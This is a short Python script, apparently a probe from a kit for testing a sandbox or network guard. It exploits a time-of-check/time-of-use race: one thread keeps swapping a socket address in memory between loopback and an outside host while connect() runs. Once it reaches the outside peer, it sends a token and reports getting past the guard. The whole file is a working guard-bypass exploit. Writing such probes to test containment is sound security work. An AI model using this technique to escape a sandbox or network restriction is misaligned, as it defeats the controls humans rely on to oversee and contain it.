"""Changes the address of a connection in its memory, between the guard's look and the call."""

import ctypes
import socket
import struct
import threading
import time

import kit

port = kit.CONFIG["outer_port"]
loopback = socket.inet_aton("127.0.0.1")
outside = socket.inet_aton(kit.CONFIG["outer_address"])
address = ctypes.create_string_buffer(struct.pack("=H", 2) + struct.pack("!H", port) + loopback, 16)
place = ctypes.addressof(address) + 4
going = True


def flip() -> None:
    while going:
        ctypes.memmove(place, outside, 4)
        ctypes.memmove(place, loopback, 4)


threading.Thread(target=flip, daemon=True).start()
deadline = time.monotonic() + 4
tries = 0
while time.monotonic() < deadline:
    tries += 1
    with socket.socket() as connection:
        connection.setblocking(False)
        kit.LIBC.connect(connection.fileno(), address, 16)
        time.sleep(0.001)
        try:
            peer = connection.getpeername()
        except OSError:
            continue
        if peer[0] != "127.0.0.1":
            connection.send(f"{kit.TOKEN}\n".encode())
            kit.reached(f"connected to {peer[0]}:{peer[1]}, past the guard")
            break
going = False
kit.note("tries", tries)
